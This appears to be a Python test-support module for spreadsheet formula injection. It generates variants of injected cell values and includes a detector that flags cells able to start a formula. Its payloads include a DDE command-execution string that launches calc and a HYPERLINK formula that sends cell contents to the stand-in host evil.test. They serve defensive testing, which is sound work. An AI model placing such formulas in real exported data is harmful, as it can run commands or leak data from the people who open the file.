"""What strangers write so that a spreadsheet computes (I25): plain, behind blanks, controls, quotes, separators."""

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
BEFORE = ("", " ", "\t", "\r", "\n", "\0", "\u00a0", "\u200b", "\ufeff", " \t\r\n ", '"', ' "', "\x01\x02")
BEHIND = ("hola;", "hola; ", 'a;"', "a\n", "a\r\n  ", "a\t")
PAYLOADS = ("1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.test/?"&A1,"ver")', "A1")
CORPUS = tuple(
    dict.fromkeys(before + sign + payload for sign in SIGNS for before in (*BEFORE, *BEHIND) for payload in PAYLOADS)
)
HARMLESS = ("hola", "a-b", "ana@example.test", "1+1=2", "2026-11-22 10:00:00", "precio: -5", "¿5 > 3? = sí", "")


def is_computed(cell: str, *, splits_at: str = "") -> bool:
    """Whether a spreadsheet could begin to compute in this cell; `splits_at`: signs at which it begins another one."""
    starts = [cell]
    for sign in splits_at:
        starts = [part for start in starts for part in start.split(sign)]
    return any(_first_visible(start) in SIGNS for start in starts)


def _first_visible(text: str) -> str:
    visible = (sign for sign in text if not (sign.isspace() or sign in '"\0\x01\x02\u200b\ufeff'))
    return next(visible, "")
